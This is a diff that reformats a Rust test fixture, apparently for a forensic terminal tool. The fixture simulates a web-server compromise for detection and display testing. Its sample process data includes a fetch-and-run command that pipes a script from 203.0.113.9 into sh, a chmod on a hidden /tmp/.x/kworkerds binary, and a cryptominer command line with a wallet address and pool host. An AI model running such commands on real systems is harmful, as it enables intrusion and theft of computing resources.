@@ -2,9 +2,7 @@
 
 use taffrail_tui::State;
 use taffrail_tui::state::draft::{Draft, NewImage, Row, Rows, Who};
-use taffrail_tui::state::recording::{
-    About, File, Finding, Flow, Gap, Image, Lifecycle, Origin, Severity, Time,
-};
+use taffrail_tui::state::recording::{About, File, Finding, Flow, Gap, Image, Lifecycle, Origin, Severity, Time};
 
 /// 2026-01-31T12:00:00Z.
 pub const TRIGGER: Time = 1_769_860_800_000_000_000;
@@ -174,21 +172,24 @@ fn cast(draft: &mut Draft) {
         start,
         ..Program::default()
     };
-    program(draft, &Program {
-        origin: Origin::Scan,
-        ..own(3, 2, 2230, "/usr/sbin/httpd", "httpd -D FOREGROUND", -3_600_000)
-    });
-    program(draft, &Program {
-        origin: Origin::Scan,
-        ..own(4, 3, 2251, "/usr/sbin/httpd", "httpd -D FOREGROUND", -3_599_000)
-    });
+    program(
+        draft,
+        &Program { origin: Origin::Scan, ..own(3, 2, 2230, "/usr/sbin/httpd", "httpd -D FOREGROUND", -3_600_000) },
+    );
+    program(
+        draft,
+        &Program { origin: Origin::Scan, ..own(4, 3, 2251, "/usr/sbin/httpd", "httpd -D FOREGROUND", -3_599_000) },
+    );
     // A worker forks, and its child runs the shell.
-    program(draft, &Program {
-        process: 6,
-        origin: Origin::Fork,
-        end: Some(0),
-        ..own(5, 4, 9107, "/usr/sbin/httpd", "httpd -D FOREGROUND", -4)
-    });
+    program(
+        draft,
+        &Program {
+            process: 6,
+            origin: Origin::Fork,
+            end: Some(0),
+            ..own(5, 4, 9107, "/usr/sbin/httpd", "httpd -D FOREGROUND", -4)
+        },
+    );
     let line = "sh -c 'curl -s http://203.0.113.9/x.sh | sh'";
     program(draft, &Program { end: Some(6_910), code: Some(0), ..own(6, 4, 9107, "/bin/sh", line, 0) });
     let curl = "curl -s http://203.0.113.9/x.sh";
@@ -198,14 +199,16 @@ fn cast(draft: &mut Draft) {
     let chmod = "chmod +x /tmp/.x/kworkerds";
     program(draft, &Program { end: Some(2_105), code: Some(0), ..own(10, 8, 9115, "/bin/chmod", chmod, 2_100) });
     let miner = "/tmp/.x/kworkerds --donate-level 1 -o pool.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x";
-    program(draft, &Program { signal: Some(9), end: Some(9_400), ..own(11, 8, 9116, "/tmp/.x/kworkerds", miner, 2_130) });
+    program(
+        draft,
+        &Program { signal: Some(9), end: Some(9_400), ..own(11, 8, 9116, "/tmp/.x/kworkerds", miner, 2_130) },
+    );
 }
 
 /// The quiet minute before, with a request every few seconds.
 fn before(rows: &mut Rows) {
     let worker = || who(4, 2251, "httpd");
-    let listen =
-        Call { op: "listen", local: "0.0.0.0:80", remote: None, end: None, bytes: (0, 0), result: 0 };
+    let listen = Call { op: "listen", local: "0.0.0.0:80", remote: None, end: None, bytes: (0, 0), result: 0 };
     flow(rows, -3_599_500, who(3, 2230, "httpd"), &listen);
     for request in 0..9 {
         let when = -56_000 + request * 6_000;
